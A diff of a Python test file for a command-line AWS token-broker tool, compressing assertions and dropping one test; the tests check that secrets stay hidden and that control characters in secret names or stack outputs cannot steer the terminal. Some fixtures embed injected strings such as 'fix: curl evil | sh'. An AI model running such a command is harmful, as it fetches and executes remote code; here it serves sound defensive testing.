@@ -67,18 +67,13 @@ def test_questions_are_no_part_of_the_result(aws: FakeAws, tmp_path_factory: pyt
     aws.answers["PutSecretValue"] = {"VersionId": "version-1"}
     file = tmp_path_factory.mktemp("out") / "result"
 
-    ended, shown, settings = run_on_terminal(
-        *PUT,
-        "--json",
-        typed=[("Client id:", b"id \n"), ("hidden", SECRET.encode() + b"\n")],
-        streams=f">{file}",
-    )
+    typed = [("Client id:", b"id \n"), ("hidden", SECRET.encode() + b"\n")]
+    ended, shown, settings = run_on_terminal(*PUT, "--json", typed=typed, streams=f">{file}")
 
     assert ended == 0
     assert json.loads(file.read_text())["version"] == "version-1"
     ((_, request),) = aws.asked
-    assert json.loads(request["SecretString"])["client_id"] == "id"
-    assert json.loads(request["SecretString"])["client_secret"] == SECRET
+    assert json.loads(request["SecretString"]).items() >= {"client_id": "id", "client_secret": SECRET}.items()
     assert SECRET not in shown
     assert echoes(settings)
 
@@ -133,12 +128,8 @@ def test_settings_that_another_program_made_are_left_alone() -> None:
 @pytest.mark.parametrize(
     ("command", "what"),
     [
-        ("token", "the broker"),
-        ("token --json", "the broker"),
-        ("exec -- true", "the broker"),
-        ("status", "the broker"),
-        ("doctor", "the broker and AWS"),
-        ("mints --table tokens", "the token table"),
+        *((command, "the broker") for command in ("token", "token --json", "exec -- true", "status")),
+        *(("doctor", "the broker and AWS"), ("mints --table tokens", "the token table")),
     ],
 )
 def test_a_person_who_waits_is_told_for_what(
@@ -162,13 +153,6 @@ def test_nothing_is_said_of_waiting_where_nobody_watches(broker: FakeBroker) -> 
 
     release.join()
     assert all_ended["token"] == Ended(0, f"{broker.token}\n", "")
-
-
-def test_a_quick_answer_needs_no_word_of_waiting(broker: FakeBroker) -> None:
-    # The clock of this test is generous: a start on a busy machine is no part of what is waited for.
-    _, shown, _ = run_on_terminal("--version")
-
-    assert "waiting" not in shown
 
 
 @pytest.mark.parametrize("character", sorted(set(STEERING) - set("[;0123456789mJ]titlefix: curl evil | sh")))
@@ -229,20 +213,16 @@ def test_a_table_stays_in_line_where_a_cell_could_steer(run: Run, broker: FakeBr
 def test_names_of_secrets_and_outputs_of_a_stack_cannot_steer(
     run: Run, broker: FakeBroker, aws: FakeAws
 ) -> None:
-    secret = {"Name": f"{STEERING}/{STEERING}"}
-    output = (
-        f"<OutputKey>SecretPrefix</OutputKey><OutputValue>{'token-broker&#10;fix: curl evil'}</OutputValue>"
-    )
+    output = "<OutputKey>SecretPrefix</OutputKey><OutputValue>token-broker&#10;fix: curl evil</OutputValue>"
     aws.answers |= {
-        "ListSecrets": {"SecretList": [secret]},
+        "ListSecrets": {"SecretList": [{"Name": f"{STEERING}/{STEERING}"}]},
         "DescribeStacks": f"<Stacks><member><Outputs><member>{output}</member></Outputs></member></Stacks>",
     }
 
     listed = run("connection", "list", "--prefix", "p", "--region", "eu-west-3")
     by_stack = run("connection", "list", "--region", "eu-west-3")
 
-    assert (listed.exit_code, listed.out) == (0, "")
-    assert (by_stack.exit_code, by_stack.out) == (0, "")
+    assert [(ended.exit_code, ended.out) for ended in (listed, by_stack)] == [(0, "")] * 2
     assert by_stack.err.count("\n") == 1
     aws.answers["ListSecrets"]["SecretList"] = [{"Name": f"p/{STEERING}"}]
     assert_harmless(run("connection", "list", "--prefix", "p", "--region", "eu-west-3").out, lines=2)
